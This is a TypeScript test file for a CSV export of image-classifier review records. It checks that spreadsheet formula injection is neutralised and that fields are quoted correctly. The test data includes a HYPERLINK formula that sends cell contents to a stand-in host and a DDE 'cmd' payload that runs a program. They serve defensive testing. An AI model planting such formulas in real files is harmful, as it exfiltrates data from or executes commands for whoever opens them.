import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ReviewItem } from '@gradcam/contracts';
import { csvHeader, csvLine } from './review-export.ts';

const item = (overrides: Partial<ReviewItem> = {}): ReviewItem => ({
  inferenceId: 'inf-1',
  model: 'nsfw-mobilenet-v2',
  modelVersion: 'nsfwjs-4.4.0',
  folder: 'captures/nsfw-mobilenet-v2/nsfwjs-4.4.0/dt=2025-01-02/inf-1/',
  predictedClass: 2,
  label: 'Neutral',
  probability: 0.93,
  sampling: { sampled: true, policy: 'rate=0.1', reason: 'random', priority: 1 },
  sampledAt: Date.UTC(2025, 0, 2, 3, 4, 5),
  status: 'reviewed',
  verdict: 'wrong-evidence',
  reviewer: 'alice',
  reviewedAt: Date.UTC(2025, 0, 2, 4, 0, 0),
  comment: 'looks at the frame, not the sheep',
  ...overrides,
});

/** A strict RFC 4180 reader: the fields of one CRLF-terminated record. */
function parseCsvRecord(line: string): string[] {
  const fields: string[] = [];
  let at = 0;
  for (;;) {
    let field = '';
    if (line[at] === '"') {
      at += 1;
      for (;;) {
        const quote = line.indexOf('"', at);
        assert.ok(quote >= 0, `unterminated quoted field in ${JSON.stringify(line)}`);
        field += line.slice(at, quote);
        at = quote + 1;
        if (line[at] !== '"') break;
        field += '"';
        at += 1;
      }
    } else {
      const end = line.slice(at).search(/,|\r\n$/);
      field = line.slice(at, at + end);
      assert.doesNotMatch(field, /["\r\n]/, 'an unquoted field holds no quote or line break');
      at += end;
    }
    fields.push(field);
    if (line.slice(at) === '\r\n') return fields;
    assert.equal(line[at], ',', `expected a comma at ${at} of ${JSON.stringify(line)}`);
    at += 1;
  }
}

const columns = parseCsvRecord(csvHeader);
const exported = (overrides: Partial<ReviewItem>) => Object.fromEntries(parseCsvRecord(csvLine(item(overrides))).map((value, i) => [columns[i], value]));

test('text a spreadsheet would run as a formula is exported with a leading quote, and quoted', () => {
  const cases: [Partial<ReviewItem>, string, string][] = [
    [{ label: '=1+2' }, 'label', "'=1+2"],
    [{ comment: '=HYPERLINK("http://evil.example/?"&A1,"click")' }, 'comment', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    [{ comment: '+1' }, 'comment', "'+1"],
    [{ comment: '-2+3' }, 'comment', "'-2+3"],
    [{ reviewer: '@SUM(A1:A2)' }, 'reviewer', "'@SUM(A1:A2)"],
    // A tab or CR starts a cell of its own where a reader splits on it: the formula after it is neutralised too.
    [{ comment: '\t=1' }, 'comment', "'\t'=1"],
    [{ comment: '\r=1' }, 'comment', "'\r'=1"],
    [{ inferenceId: '-abc' }, 'inferenceId', "'-abc"],
    [{ model: '=cmd|" /C calc"!A0' }, 'model', `'=cmd|" /C calc"!A0`],
  ];
  for (const [overrides, column, expected] of cases) {
    const line = csvLine(item(overrides));
    assert.equal(exported(overrides)[column], expected, line);
    assert.ok(line.split(',').some((cell) => cell.startsWith(`"'`)), `the neutralised cell is quoted: ${line}`);
  }
});

test('ordinary text and numbers are exported as they are, with RFC 4180 quoting where needed', () => {
  const row = exported({ comment: 'frame, not "sheep"\r\nsecond line', probability: -0.5 });
  assert.equal(row.comment, 'frame, not "sheep"\r\nsecond line');
  assert.equal(row.probability, '-0.5', 'a number this service formats is never a formula');
  assert.equal(row.label, 'Neutral');
  assert.equal(row.inferenceId, 'inf-1');
  assert.equal(row.sampledAt, '2025-01-02T03:04:05.000Z');
  assert.equal(row.samplingPolicy, 'rate=0.1', 'a formula character after the first is harmless');
  assert.equal(row.priority, '1');
  assert.equal(exported({ comment: undefined }).comment, '');
  assert.equal(csvLine(item({ label: 'a=b' })).includes(',a=b,'), true, 'unquoted when nothing needs quoting');
});

test('a formula after a separator another locale splits on (";", a tab, a line break) is neutralised too, and such a field is quoted', () => {
  // Excel in a locale whose list separator is ";" splits the line there, quotes or not: each
  // piece is a cell of its own, so each must not start a formula.
  const cases: [string, string][] = [
    ['ok;=1+1;-2+3;@SUM(1)', "ok;'=1+1;'-2+3;'@SUM(1)"],
    ['ok; =1+1', "ok; '=1+1"],
    ['a,=1', "a,'=1"],
    ['notes:\n- first\r\n+ second', "notes:\n'- first\r\n'+ second"],
    ['x\t=1', "x\t'=1"],
    ['=1;=2', "'=1;'=2"],
  ];
  for (const [comment, expected] of cases) {
    const line = csvLine(item({ comment }));
    assert.equal(exported({ comment }).comment, expected, line);
    // Split on ";" as such a locale does: no piece starts a formula.
    for (const piece of line.split(/[;\r\n]/)) assert.doesNotMatch(piece, /^\s*[=+\-@]/, `${JSON.stringify(piece)} of ${JSON.stringify(line)}`);
  }
  assert.ok(csvLine(item({ comment: 'a;b' })).includes(',"a;b",'), 'a field holding ";" is quoted, for readers that guess the separator');
  const plain = exported({ comment: 'range 3-5; score a+b, e-mail x@y.z' });
  assert.equal(plain.comment, 'range 3-5; score a+b, e-mail x@y.z', 'a formula character inside a word is harmless');
});

test('text that a spreadsheet would take for a number or a date is exported as it is: the README says how to open it as text', () => {
  // Excel, opening a .csv, reads 00123 as 123, 1e5 as 100000, 1-2 as a date and keeps 15 digits of
  // a longer number. Mangling the data against it (a `'` or `="…"`) would reach every other reader
  // (pandas, Postgres, a script), so the export writes the text as it is and the README says how
  // to open it with every column as text.
  for (const text of ['00123', '1e5', '1-2', '12345678901234567890', '1.10']) {
    const row = exported({ inferenceId: text.replace('.', '_'), modelVersion: text, label: text });
    assert.deepEqual([row.inferenceId, row.modelVersion, row.label], [text.replace('.', '_'), text, text]);
    assert.ok(csvLine(item({ label: text })).includes(`,${text},`), `unquoted, unprefixed: ${text}`);
  }
});
